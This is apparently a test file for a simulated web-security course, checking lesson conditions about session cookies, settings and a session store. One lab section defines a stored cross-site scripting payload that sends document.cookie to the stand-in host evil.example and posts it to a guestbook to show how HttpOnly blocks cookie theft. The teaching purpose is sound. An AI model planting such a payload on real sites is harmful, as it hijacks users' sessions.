// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { handMadeCookie } from '../../src/browser/cookieJar';
import { evaluate, markStep } from '../../src/lessons/checks';
import type { Lang } from '../../src/lessons/localized';
import type { Check } from '../../src/lessons/types';
import type { World } from '../../src/world/world';
import { testWorld } from './helpers';
// The call endpoint's Python, loaded at once (the page's console loads it with its first line).
import '../../src/server/console/installed';

async function logIn(world: World, username: string, tab = 'A') {
  await world.navigate(tab, '/myapp/connection/');
  return world.submitForm(tab, 0, { username, password: 'x' });
}

/** evaluate() with a marker taken now, and a function to evaluate later against it. */
function from(world: World, lang: Lang = 'en') {
  const marker = markStep(world);
  return (check: Check) => evaluate(check, world, marker, lang);
}

describe('response checks: only requests since the step began', () => {
  it('match method, path, status, browser and the middleware decision', async () => {
    const { world } = testWorld();
    await world.navigate('A', '/myapp/connection/');
    const holds = from(world);
    const login: Check = { type: 'response', method: 'POST', path: '/myapp/login/' };
    expect(holds({ type: 'response' })).toBe(false);
    expect(holds({ type: 'response', path: '/myapp/connection/' })).toBe(false); // before the step
    await world.submitForm('A', 0, { username: 'alice', password: 'x' });
    expect(holds(login)).toBe(true);
    expect(holds({ ...login, status: 200, browser: 'A', decision: 'saved' })).toBe(true);
    expect(holds({ ...login, status: 404 })).toBe(false);
    expect(holds({ ...login, browser: 'B' })).toBe(false);
    expect(holds({ ...login, method: 'GET' })).toBe(false);
    expect(holds({ ...login, decision: 'read-only' })).toBe(false);
  });

  it('compare a path without a query with any query, and one with a query exactly', async () => {
    const { world } = testWorld();
    const holds = from(world);
    await world.navigate('A', '/myapp/connection/?next=/x');
    expect(holds({ type: 'response', path: '/myapp/connection/' })).toBe(true);
    expect(holds({ type: 'response', path: '/myapp/connection/?next=/x' })).toBe(true);
    expect(holds({ type: 'response', path: '/myapp/connection/?next=/y' })).toBe(false);
    expect(holds({ type: 'page', path: '/myapp/connection/' })).toBe(true);
  });

  it('tell a cookie set from a cookie deleted', async () => {
    const { world } = testWorld();
    const first = from(world);
    await logIn(world, 'alice');
    expect(first({ type: 'response', setsCookie: 'sessionid' })).toBe(true);
    expect(first({ type: 'response', deletesCookie: 'sessionid' })).toBe(false);
    // A cookie naming no session: the middleware deletes it.
    world.putCookie('A', handMadeCookie('sessionid', 'nosuchkey', 'localhost'));
    const second = from(world);
    await world.navigate('A', '/myapp/connection/');
    expect(
      second({ type: 'response', deletesCookie: 'sessionid', decision: 'cookie-deleted' }),
    ).toBe(true);
    expect(second({ type: 'response', setsCookie: 'sessionid' })).toBe(false);
  });

  it('read the body as the page text: tags removed, entities unescaped, per language', async () => {
    const { world } = testWorld();
    const en = from(world, 'en');
    const bn = from(world, 'bn');
    await logIn(world, '<b>রহিম</b> & co');
    const says = { en: 'You are : <b>alice', bn: 'You are : <b>রহিম</b> & co' };
    expect(bn({ type: 'response', bodyIncludes: says })).toBe(true);
    expect(en({ type: 'response', bodyIncludes: says })).toBe(false);
    expect(en({ type: 'response', bodyIncludes: 'You   are :\n<b>রহিম' })).toBe(true); // spaces
    expect(en({ type: 'response', bodyIncludes: '<strong>' })).toBe(false); // a tag, not text
  });

  it('name the console method of a console call', async () => {
    const { world } = testWorld();
    await logIn(world, 'alice');
    const holds = from(world);
    await world.send(
      'A',
      {
        method: 'POST',
        path: '/__session__/call',
        json: '{"method": "get_expiry_age", "args": []}',
      },
      { navigate: false },
    );
    expect(
      holds({ type: 'response', consoleMethod: 'get_expiry_age', bodyIncludes: '1209600' }),
    ).toBe(true);
    expect(holds({ type: 'response', consoleMethod: 'flush' })).toBe(false);
  });

  it('keep ignoring the requests made before the step when the log is cleared or trimmed', async () => {
    const { world } = testWorld();
    await world.navigate('A', '/myapp/connection/');
    const holds = from(world);
    world.network = world.network.map((e) => e); // a new array, the same entries
    expect(holds({ type: 'response' })).toBe(false);
    world.clearNetwork();
    await world.navigate('A', '/myapp/logout/');
    expect(holds({ type: 'response', path: '/myapp/logout/' })).toBe(true);
  });
});

describe('checks of the present state', () => {
  it('cookie: present or absent, and whether it lasts until the browser closes', async () => {
    const { world } = testWorld();
    const holds = from(world);
    expect(holds({ type: 'cookie', name: 'sessionid', present: false })).toBe(true);
    expect(holds({ type: 'cookie', browser: 'B', name: 'sessionid', present: false })).toBe(true);
    await logIn(world, 'alice');
    expect(holds({ type: 'cookie', name: 'sessionid', present: true })).toBe(true);
    expect(holds({ type: 'cookie', name: 'sessionid', present: true, session: false })).toBe(true);
    expect(holds({ type: 'cookie', name: 'sessionid', present: true, session: true })).toBe(false);
    expect(holds({ type: 'cookie', name: 'sessionid', present: false })).toBe(false);
    world.applySettings({ SESSION_EXPIRE_AT_BROWSER_CLOSE: true });
    world.addTab();
    await logIn(world, 'bob', 'B');
    const inB = { type: 'cookie', browser: 'B', name: 'sessionid' } as const;
    expect(holds({ ...inB, present: true, session: true })).toBe(true);
    world.closeBrowser('B');
    expect(holds({ ...inB, present: false })).toBe(true);
    world.closeBrowser('A'); // A's cookie has an expiry: it outlives the browser
    expect(holds({ type: 'cookie', name: 'sessionid', present: true, session: false })).toBe(true);
  });

  it('store: counts, a key and its value (per language), expired rows', async () => {
    const { world } = testWorld();
    const bn = from(world, 'bn');
    const en = from(world, 'en');
    expect(bn({ type: 'store', count: 0 })).toBe(true);
    expect(bn({ type: 'store', atLeast: 1 })).toBe(false);
    await logIn(world, 'রহিম');
    world.addTab();
    await logIn(world, 'bob', 'B');
    const value = {
      type: 'store',
      dataKey: 'username',
      dataValue: { en: 'alice', bn: 'রহিম' },
    } as const;
    expect(bn({ type: 'store', count: 2, atLeast: 2 })).toBe(true);
    expect(bn({ type: 'store', count: 1 })).toBe(false);
    expect(bn(value)).toBe(true);
    expect(en(value)).toBe(false);
    expect(en({ type: 'store', dataKey: 'username' })).toBe(true);
    expect(en({ type: 'store', dataKey: 'cart' })).toBe(false);
    expect(en({ type: 'store', expired: false })).toBe(true);
    world.clock.jump(1209600 * 1000 + 1);
    expect(en({ type: 'store', expired: true, count: 2 })).toBe(true);
    world.clearExpired();
    expect(en({ type: 'store', expired: false, count: 0 })).toBe(true);
  });

  it('setting, page and clockAdvanced (against the moment the step began)', async () => {
    const { world, advanceReal } = testWorld();
    const holds = from(world);
    expect(holds({ type: 'setting', name: 'SESSION_COOKIE_AGE', value: 1209600 })).toBe(true);
    expect(holds({ type: 'setting', name: 'SESSION_COOKIE_DOMAIN', value: null })).toBe(true);
    world.applySettings({ SESSION_ENGINE: 'cache' });
    expect(holds({ type: 'setting', name: 'SESSION_ENGINE', value: 'cache' })).toBe(true);
    expect(holds({ type: 'page', path: '/myapp/connection/' })).toBe(false);
    await world.navigate('A', '/myapp/connection/');
    expect(holds({ type: 'page', path: '/myapp/connection/' })).toBe(true);
    expect(holds({ type: 'page', browser: 'B', path: '/myapp/connection/' })).toBe(false);
    expect(holds({ type: 'clockAdvanced', seconds: 60 })).toBe(false);
    advanceReal(30_000);
    world.clock.jump(30_000);
    expect(holds({ type: 'clockAdvanced', seconds: 60 })).toBe(true);
    expect(holds({ type: 'clockAdvanced', seconds: 61 })).toBe(false);
  });

  it('all and any', () => {
    const { world } = testWorld();
    const holds = from(world);
    const yes: Check = { type: 'read' };
    const no: Check = { type: 'store', atLeast: 1 };
    expect(holds({ type: 'all', checks: [yes, yes] })).toBe(true);
    expect(holds({ type: 'all', checks: [yes, no] })).toBe(false);
    expect(holds({ type: 'any', checks: [no, yes] })).toBe(true);
    expect(holds({ type: 'any', checks: [no, { type: 'all', checks: [no] }] })).toBe(false);
  });
});

describe('lab 15: stolen and cookie httpOnly', () => {
  const STEAL = "<script>new Image().src='http://evil.example/steal?c='+document.cookie</script>";

  async function guestbookTrap(world: World) {
    world.addTab();
    await world.navigate('B', '/myapp/guestbook/');
    await world.submitForm('B', 0, { message: STEAL });
  }

  it('stolen: a non-empty document.cookie received since the step began', async () => {
    const { world } = testWorld();
    await guestbookTrap(world); // B has no cookies: an empty value arrives
    await logIn(world, 'alice');
    const holds = from(world);
    expect(holds({ type: 'stolen', present: false })).toBe(true);
    await world.navigate('A', '/myapp/guestbook/'); // HttpOnly: '' again
    expect(world.stolen.length).toBe(2);
    expect(holds({ type: 'stolen', present: false })).toBe(true);
    expect(holds({ type: 'stolen', present: true })).toBe(false);
    world.applySettings({ SESSION_COOKIE_HTTPONLY: false });
    // Logged in, /myapp/connection/ shows no form: log out (which sends the cookie again) first.
    await world.navigate('A', '/myapp/logout/');
    await logIn(world, 'alice');
    await world.navigate('A', '/myapp/guestbook/');
    expect(holds({ type: 'stolen', present: true })).toBe(true);
    expect(holds({ type: 'stolen', present: true, contains: 'sessionid=' })).toBe(true);
    expect(holds({ type: 'stolen', present: true, contains: 'csrftoken' })).toBe(false);
    expect(holds({ type: 'stolen', present: false })).toBe(false);
    // A new step does not see the old theft.
    expect(from(world)({ type: 'stolen', present: false })).toBe(true);
  });

  it('cookie: httpOnly compares the stored flag', async () => {
    const { world } = testWorld();
    const holds = from(world);
    const check = { type: 'cookie', name: 'sessionid', present: true } as const;
    expect(holds({ ...check, httpOnly: true })).toBe(false);
    await logIn(world, 'alice');
    expect(holds({ ...check, httpOnly: true })).toBe(true);
    expect(holds({ ...check, httpOnly: false })).toBe(false);
    world.applySettings({ SESSION_COOKIE_HTTPONLY: false });
    expect(holds({ ...check, httpOnly: true })).toBe(true); // the jar keeps what it was sent
    await world.navigate('A', '/myapp/logout/'); // the tutorial's logout saves: Set-Cookie again
    expect(holds({ ...check, httpOnly: false })).toBe(true);
  });
});
